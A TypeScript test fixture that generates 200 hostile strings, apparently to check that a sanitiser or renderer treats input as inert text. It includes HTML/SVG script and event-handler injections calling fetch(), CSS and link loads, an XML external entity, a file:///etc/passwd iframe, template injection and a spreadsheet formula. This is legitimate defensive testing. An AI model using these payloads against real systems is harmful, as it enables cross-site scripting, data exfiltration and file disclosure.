export const HOSTILE_TEXTS = 200;

/** Attempts to execute or fetch something. `at(name)`: a monitored address. */
const attempts = (at: (name: string) => string): readonly string[] => [
  ...[
    'script',
    'img',
    'iframe',
    'embed',
    'input type=image',
    'frame',
    'image',
    'audio autoplay',
    'video autoplay',
  ].map((tag) => `<${tag} src="${at(tag)}">`),
  ...['load', 'error', 'focus', 'pageshow', 'resize', 'hashchange', 'beforeprint', 'afterprint'].map(
    (event) => `<body on${event}=fetch('${at(event)}')>`,
  ),
  ...[
    'svg onload',
    'details open ontoggle',
    'select autofocus onfocus',
    'marquee onstart',
    'img src=x onerror',
  ].map((opening) => `<${opening}=fetch("${at(opening)}")>`),
  ...['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'icon', 'import', 'manifest'].map(
    (rel) => `<link rel="${rel}" as=style href="${at(rel)}">`,
  ),
  `<script>fetch('${at('fetch')}')</script>`,
  `<script>document.body.innerHTML='';new Image().src='${at('image')}'</script>`,
  `<script type=module>import '${at('module')}'</script>`,
  `<style>@import url("${at('css')}");</style>`,
  `<style>body{background:url(${at('background')})}</style>`,
  `<style>@font-face{font-family:x;src:url(${at('font')})}*{font-family:x}</style>`,
  `<p style="background-image:image-set(url(${at('set')}) 1x)">`,
  `<p style="width:expression(fetch('${at('expression')}'))">`,
  `<object data="${at('object')}"></object>`,
  `<picture><source srcset="${at('srcset')}"><img></picture>`,
  `<svg><image href="${at('svg')}"/><use href="${at('use')}#x"/></svg>`,
  `<svg><script href="${at('svgscript')}"/></svg>`,
  `<svg><animate onbegin=fetch('${at('animate')}') attributeName=x dur=1s>`,
  `<math><mtext><mglyph><style><img src=${at('math')}>`,
  `<meta http-equiv=refresh content="0;url=${at('refresh')}">`,
  `<base href="${at('base')}"><img src=logo.png>`,
  `<form action="${at('form')}"><button autofocus onfocus=submit()>`,
  `<a href="javascript:fetch('${at('javascript')}')" autofocus>hier</a>`,
  `<iframe srcdoc="<img src='${at('srcdoc')}'>"></iframe>`,
  `<iframe src="file:///etc/passwd"></iframe>`,
  `<template><img src="${at('template')}"></template>`,
  `<noscript><p title="</noscript><img src=${at('noscript')}>">`,
  `<scr<script>ipt src="${at('nested')}"></script>`,
  `&lt;img src=${at('entity')}&gt;`,
  `&#60;img src=${at('number')}&#62;`,
  `%3Cimg%20src=${at('percent')}%3E`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${at('dtd')}">]><x>&e;</x>`,
  `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${at('xinclude')}"/>`,
  `<?xml-stylesheet href="${at('pi')}"?>`,
  `]]><ram:URIID>${at('cdata')}</ram:URIID>`,
  `{{{lookup (lookup this "constructor") "${at('handlebars')}"}}}`,
  `{{#with "s" as |s|}}{{s.sub.apply}}{{/with}} ${at('with')}`,
  `\${fetch('${at('literal')}')}`,
  `=HYPERLINK("${at('formula')}";"hier")`,
];

/** Prefixes and suffixes that try to escape the context. */
const WRAPPINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `--></style></title></textarea></script>${text}`,
  (text) =>
    text.replaceAll(/<(\/?)(\w+)/g, (_, slash: string, tag: string) => `<${slash}${tag.toUpperCase()}`),
];

/** 200 texts that execute or fetch something if they are treated as anything but text. */
export function hostileTexts(address: string): readonly string[] {
  const plain = attempts((name) => `${address}/${name.replaceAll(/\W/g, '')}`);
  const all = WRAPPINGS.flatMap((wrap) => plain.map(wrap));
  if (all.length < HOSTILE_TEXTS) throw new Error(`There are only ${all.length} texts`);
  return all.slice(0, HOSTILE_TEXTS);
}
